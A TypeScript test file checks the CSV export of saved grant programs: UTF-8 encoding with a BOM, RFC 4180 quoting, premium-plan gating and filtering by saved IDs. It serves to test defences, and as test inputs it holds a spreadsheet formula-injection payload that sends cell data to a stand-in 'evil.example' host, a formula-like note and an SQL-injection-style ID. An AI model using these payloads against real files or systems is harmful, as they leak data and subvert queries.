import { expect, inject, test } from 'vitest';
import { postSavedCsv, postSavedGrant, putSavedNotes } from '../../../contract/saved/saved.ts';
import { openDatabase } from '../../../worker/db/client.ts';
import { upsertPrograms } from '../../../worker/features/programs/upsert.ts';
import { signIn, storedAccount } from '../../factories/accounts.ts';
import { newProgram } from '../../factories/programs.ts';
import { member, newClient } from '../../harness/api.ts';

const db = openDatabase(inject('databaseUrl'));
const formula = '=HYPERLINK("http://evil.example?"&A1,"Click, please")';
await upsertPrograms(db, [
  { ...newProgram('ocelot-formula', { title: 'Ocelot' }), title: formula, contentHash: 'formula' },
  newProgram('ocelot-plain', { title: 'Ayuda para el alquiler — ocelot' }),
]);

/** Parses a table as specified in RFC 4180. */
function parsed(csv: string): string[][] {
  expect(csv).toMatch(/\r\n$/);
  const cells = [...csv.matchAll(/("(?:[^"]|"")*")(,|\r\n)/gy)];
  expect(cells.map(([all]) => all).join('')).toBe(csv);
  const rows: string[][] = [[]];
  for (const [, cell = '', end] of cells) {
    rows.at(-1)?.push(cell.slice(1, -1).replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

async function premiumMember(...ids: string[]) {
  const client = newClient();
  await signIn(db, client, (await storedAccount(db, { tier: 'premium' })).id);
  for (const grantId of ids) await client.ok(postSavedGrant, { body: { grantId } });
  return client;
}

async function csvOf(client: ReturnType<typeof newClient>, body: unknown) {
  const { base, cookies } = client;
  const cookie = [...cookies].map(([name, value]) => `${name}=${value}`).join('; ');
  const headers = { origin: base, cookie, 'content-type': 'application/json' };
  const response = await fetch(`${base}${postSavedCsv.path}`, {
    method: 'POST',
    headers,
    body: JSON.stringify(body),
  });
  expect(response.status).toBe(200);
  return { headers: response.headers, bytes: new Uint8Array(await response.arrayBuffer()) };
}

test('the file opens in Excel: UTF-8 with BOM, quoted cells, and no formula', async () => {
  const client = await premiumMember('ocelot-plain', 'ocelot-formula');
  const { body: saved } = await client.ok(postSavedGrant, { body: { grantId: 'ocelot-plain' } });
  const notes = '@SUM(1+1)\n"second" line, 🏠';
  await client.ok(putSavedNotes, { params: { id: saved.id }, body: { notes, notesRevision: saved.notesRevision } });
  const { headers, bytes } = await csvOf(client, {});
  expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(headers.get('content-disposition')).toBe('attachment; filename="grantlight-saved-programs.csv"');
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const [names = [], ...rows] = parsed(new TextDecoder().decode(bytes));
  expect(rows.map(([title]) => title)).toEqual([`'${formula}`, 'Ayuda para el alquiler — ocelot']);
  expect(rows[1]?.[names.indexOf('My note')]).toBe(`'${notes}`);
  for (const row of rows) expect(row.length).toBe(names.length);
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
});

test('the file has only programs that are requested and saved', async () => {
  const client = await premiumMember('ocelot-plain', 'ocelot-formula');
  const { bytes } = await csvOf(client, { ids: ['ocelot-plain', 'veteran-pension', "' OR 1=1"] });
  expect(parsed(new TextDecoder().decode(bytes)).length).toBe(2);
});

test('the file is part of the paid plans', async () => {
  const { client } = await member();
  expect((await client.fails(postSavedCsv, { body: {} })).body.code).toBe('plan_required');
});
